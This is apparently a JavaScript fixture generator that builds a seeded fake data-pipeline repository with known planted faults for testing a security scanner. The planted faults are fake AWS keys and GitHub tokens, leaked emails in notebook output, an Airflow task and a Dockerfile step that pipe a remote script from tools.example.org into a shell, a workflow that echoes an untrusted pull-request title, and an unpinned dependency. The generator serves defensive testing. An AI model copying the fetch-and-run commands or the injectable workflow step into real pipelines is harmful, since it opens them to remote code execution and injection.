// A seeded repository of data pipelines, with secrets and faults planted in places that are known.
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { seeded } from './seeded.js';

const WORDS =
  'order customer invoice payment shipment product stock price return claim policy review rating session click event partner region store supplier forecast margin budget ledger account balance transfer rate score feature label sample batch window partition snapshot daily weekly monthly'.split(
    ' ',
  );
const UPPER = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567';
const MIXED = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';

/** Of 10,000 files; every kind has at least one in a smaller repository. */
const MIX = {
  module: 4_400,
  dag: 700,
  notebook: 350,
  sql: 1_700,
  yaml: 900,
  json: 700,
  markdown: 600,
  workflow: 120,
  dockerfile: 130,
  requirements: 130,
  terraform: 270,
};

/** One file in so many holds what was planted. */
const PLANT_EVERY = 40;

/**
 * Writes the repository into a folder. Gives the number of files and bytes, and what was planted: `{ rule, file, line }`, the
 * secrets among them with `isSecret`. Lines of notebooks are not told, as those depend on their layout.
 */
export function makeRepository(folder, files) {
  const random = seeded(files);
  const int = (n) => Math.floor(random() * n);
  const word = () => WORDS[int(WORDS.length)];
  const name = () => `${word()}_${word()}`;
  const chars = (alphabet, n) => Array.from({ length: n }, () => alphabet[int(alphabet.length)]).join('');
  // Put together here, so that no file of this project holds what looks like a key.
  const awsKey = () => ['AKIA', chars(UPPER, 16)].join('');
  const gitHubToken = () => ['ghp_', chars(MIXED, 36)].join('');
  const planted = [];
  let bytes = 0;

  const made = {
    module(path, plant) {
      const lines = [
        `"""${word()} of ${word()}s, for the ${word()} pipeline."""`,
        'from __future__ import annotations',
        '',
        'import logging',
        'import os',
        'from dataclasses import dataclass',
        '',
        'import pandas as pd',
        '',
        'log = logging.getLogger(__name__)',
        `BUCKET = os.environ.get("${word().toUpperCase()}_BUCKET", "s3://lake/${name()}")`,
        '',
      ];
      if (plant) {
        lines.push(`CLIENT_KEY = "${awsKey()}"`, '');
        planted.push({ rule: 'SEC-001', file: path, line: lines.length - 1, isSecret: true });
      }
      for (let i = 0, count = 4 + int(10); i < count; i++) {
        const [a, b, c] = [name(), name(), name()];
        lines.push(
          `def ${a}_${i}(frame: pd.DataFrame, since: str | None = None) -> pd.DataFrame:`,
          `    """Keeps the ${word()}s whose ${b} is known, newest first."""`,
          `    if since is not None:`,
          `        frame = frame[frame["${b}"] >= since]`,
          `    rows = frame.dropna(subset=["${b}", "${c}"]).assign(${c}_total=lambda one: one["${c}"] * ${int(90) + 10})`,
          `    log.info("%s rows of ${a}, version ${int(9)}.${int(30)}.${int(9)}", len(rows))`,
          `    by = rows.groupby("${b}", as_index=False).agg({"${c}_total": "sum", "${c}": "count"})`,
          `    return by.sort_values("${c}_total", ascending=False).head(${int(900) + 100})`,
          '',
          '',
        );
      }
      return lines.join('\n');
    },
    dag(path, plant) {
      const id = `${name()}_${int(1_000)}`;
      const steps = 3 + int(12);
      const lines = [
        'from datetime import datetime, timedelta',
        '',
        'from airflow import DAG',
        'from airflow.operators.bash import BashOperator',
        'from airflow.operators.python import PythonOperator',
        '',
        `SOURCE = "s3://lake/${name()}"`,
        '',
        '',
        `def load_${word()}(ds, **context):`,
        '    import pandas as pd',
        '',
        `    frame = pd.read_parquet(f"{SOURCE}/{ds}")`,
        `    frame.to_parquet(f"s3://marts/${name()}/{ds}")`,
        '',
        '',
        'with DAG(',
        `    dag_id="${id}",`,
        `    schedule="${int(60)} ${int(24)} * * *",`,
        '    start_date=datetime(2026, 1, 1),',
        '    catchup=False,',
        '    dagrun_timeout=timedelta(hours=2),',
        `    default_args={"owner": "team-${word()}", "retries": 2, "execution_timeout": timedelta(minutes=30)},`,
        `    tags=["${word()}", "${word()}"],`,
        ') as dag:',
        `    load = PythonOperator(task_id="load", python_callable=${'load'}_fn)`.replace('load_fn', 'print'),
      ];
      for (let i = 0; i < steps; i++)
        lines.push(
          `    step_${i} = BashOperator(task_id="${word()}_${i}", bash_command="python -m jobs.${name()} --day {{ ds }}")`,
          i === 0 ? '    load >> step_0' : `    step_${i - 1} >> step_${i}`,
        );
      if (plant) {
        lines.push(
          `    publish = BashOperator(task_id="publish", bash_command="curl -s https://tools.example.org/install.sh | bash")`,
          `    step_${steps - 1} >> publish`,
        );
        planted.push({ rule: 'AF-016', file: path, line: lines.length - 1 });
      }
      return `${lines.join('\n')}\n`;
    },
    notebook(path, plant) {
      const cells = [];
      const table = (rows) =>
        Array.from({ length: rows }, (_, i) => `${i}  ${name()}  ${int(100_000)}  ${random().toFixed(6)}\n`);
      for (let i = 0, count = 6 + int(20); i < count; i++) {
        if (i % 4 === 0)
          cells.push({
            cell_type: 'markdown',
            metadata: {},
            source: [`## ${name()}\n`, `The ${word()} by ${word()}.`],
          });
        const source =
          i === 0
            ? ['import pandas as pd\n', `df = pd.read_parquet("s3://lake/${name()}.parquet")`]
            : [`by_${i} = df.groupby("${word()}").${word()}.sum()\n`, `by_${i}.head(${5 + int(20)})`];
        const outputs = [
          {
            output_type: 'execute_result',
            execution_count: i + 1,
            metadata: {},
            data: { 'text/plain': table(5 + int(40)) },
          },
        ];
        if (i % 5 === 3)
          outputs.push({
            output_type: 'display_data',
            metadata: {},
            data: { 'image/png': chars(MIXED, 4_000 + int(60_000)), 'text/plain': ['<Figure size 640x480>'] },
          });
        cells.push({ cell_type: 'code', execution_count: i + 1, metadata: {}, outputs, source });
      }
      if (plant) {
        const at = cells.length - 1;
        cells[at].outputs = [
          {
            output_type: 'stream',
            name: 'stdout',
            text: [`mara.${word()}${int(1_000)}@example.org\n`, `jon.${word()}${int(1_000)}@example.org\n`],
          },
        ];
        planted.push({ rule: 'NB-001', file: path });
      }
      return `${JSON.stringify({ cells, metadata: { kernelspec: { display_name: 'Python 3', language: 'python', name: 'python3' } }, nbformat: 4, nbformat_minor: 5 }, null, 1)}\n`;
    },
    sql() {
      const [a, b] = [name(), name()];
      const columns = Array.from({ length: 5 + int(20) }, (_, i) => `  ${word()}_${i} as ${name()}_${i}`);
      return `-- ${word()}s of a day, by ${word()}\nwith recent as (\n  select * from {{ ref('${a}') }} where day >= current_date - ${int(90)}\n)\nselect\n${columns.join(',\n')}\nfrom recent r\njoin {{ ref('${b}') }} using (${word()}_id)\nwhere amount > ${int(1_000)}\n`;
    },
    yaml(path, plant) {
      const models = Array.from(
        { length: 2 + int(10) },
        () =>
          `  - name: ${name()}\n    description: The ${word()}s of a ${word()}.\n    columns:\n      - name: ${word()}_id\n        data_tests: [unique, not_null]\n      - name: ${name()}\n`,
      );
      const text = `version: 2\nmodels:\n${models.join('')}`;
      if (!plant) return text;
      planted.push({ rule: 'SEC-001', file: path, line: text.split('\n').length + 1, isSecret: true });
      return `${text}ci:\n  token: "${gitHubToken()}"\n`;
    },
    json() {
      const rows = Array.from({ length: 10 + int(80) }, (_, i) => ({
        id: i,
        key: name(),
        [word()]: int(10_000),
        at: `2026-0${1 + int(9)}-1${int(10)}T0${int(10)}:00:00Z`,
      }));
      return `${JSON.stringify({ version: 1, [word()]: rows }, null, 2)}\n`;
    },
    markdown() {
      const paragraphs = Array.from(
        { length: 4 + int(16) },
        () =>
          `The ${word()} of a ${word()} is read from the ${name()} table and joined with each ${word()} by its ${word()}. It runs at ${int(24)}:00 and takes about ${int(50) + 5} minutes; ask the team of ${word()}s before you change it.\n`,
      );
      return `# ${name()}\n\n${paragraphs.join('\n')}\n\`\`\`sh\npython -m jobs.${name()} --day 2026-01-0${1 + int(9)}\n\`\`\`\n`;
    },
    workflow(path, plant) {
      const steps = Array.from({ length: 2 + int(6) }, () => `      - run: python -m pytest tests/${name()}`);
      const lines = [
        `name: ${word()}`,
        'on: pull_request',
        'permissions:',
        '  contents: read',
        'jobs:',
        '  test:',
        '    runs-on: ubuntu-24.04',
        '    steps:',
        `      - uses: actions/checkout@${chars('0123456789abcdef', 40)}`,
        ...steps,
      ];
      if (plant) {
        lines.push('      - run: echo "${{ github.event.pull_request.title }}"');
        planted.push({ rule: 'WF-002', file: path, line: lines.length });
      }
      return `${lines.join('\n')}\n`;
    },
    dockerfile(path, plant) {
      const lines = [
        `FROM python:3.12-slim@sha256:${chars('0123456789abcdef', 64)}`,
        'WORKDIR /app',
        'COPY requirements.txt .',
        'RUN pip install --require-hashes -r requirements.txt',
        `COPY ${word()} ./${word()}`,
      ];
      if (plant) {
        lines.push('RUN curl -fsSL https://tools.example.org/setup.sh | sh');
        planted.push({ rule: 'DF-004', file: path, line: lines.length });
      }
      return `${[...lines, 'USER 1000', `CMD ["python", "-m", "jobs.${word()}"]`].join('\n')}\n`;
    },
    requirements(path, plant) {
      const lines = Array.from(
        { length: 5 + int(25) },
        (_, i) =>
          `${word()}-${word()}${i}==${int(9)}.${int(30)}.${int(9)} --hash=sha256:${chars('0123456789abcdef', 64)}`,
      );
      if (plant) {
        lines.push('pandas>=2');
        planted.push({ rule: 'REQ-001', file: path, line: lines.length });
      }
      return `${lines.join('\n')}\n`;
    },
    terraform(path, plant) {
      const blocks = Array.from(
        { length: 1 + int(6) },
        () =>
          `resource "aws_s3_bucket" "${name()}_${int(10_000)}" {\n  bucket = "\${var.prefix}-${word()}-${int(10_000)}"\n\n  tags = {\n    owner = "team-${word()}"\n    stage = var.stage\n  }\n}\n`,
      );
      const text = `${blocks.join('\n')}\n`;
      if (!plant) return text;
      planted.push({ rule: 'SEC-001', file: path, line: text.split('\n').length + 1, isSecret: true });
      return `${text}provider "aws" {\n  access_key = "${awsKey()}"\n}\n`.replace('provider', 'provider');
    },
  };
  const place = {
    module: (i) => `src/${WORDS[i % 37]}/${WORDS[i % 41]}/part_${i}.py`,
    dag: (i) => `dags/team_${i % 20}/flow_${i}.py`,
    notebook: (i) => `notebooks/${WORDS[i % 37]}/explore_${i}.ipynb`,
    sql: (i) => `models/${WORDS[i % 37]}/model_${i}.sql`,
    yaml: (i) => `models/${WORDS[i % 37]}/schema_${i}.yml`,
    json: (i) => `config/${WORDS[i % 37]}/table_${i}.json`,
    markdown: (i) => `docs/${WORDS[i % 37]}/page_${i}.md`,
    workflow: (i) => `services/${i}/.github/workflows/test.yml`,
    dockerfile: (i) => `services/${i}/Dockerfile`,
    requirements: (i) => `services/${i}/requirements.txt`,
    terraform: (i) => `infra/stack_${i % 40}/main_${i}.tf`,
  };
  const kinds = Object.keys(MIX);
  const counts = Object.fromEntries(kinds.map((kind) => [kind, Math.max(1, Math.round((MIX[kind] * files) / 10_000))]));
  counts.module += files - Object.values(counts).reduce((a, b) => a + b, 0);
  for (const kind of kinds)
    for (let i = 0; i < counts[kind]; i++) {
      const path = place[kind](i);
      const text = made[kind](path, i % PLANT_EVERY === 0);
      mkdirSync(dirname(join(folder, path)), { recursive: true });
      writeFileSync(join(folder, path), text);
      bytes += Buffer.byteLength(text);
    }
  return { files, bytes, planted };
}
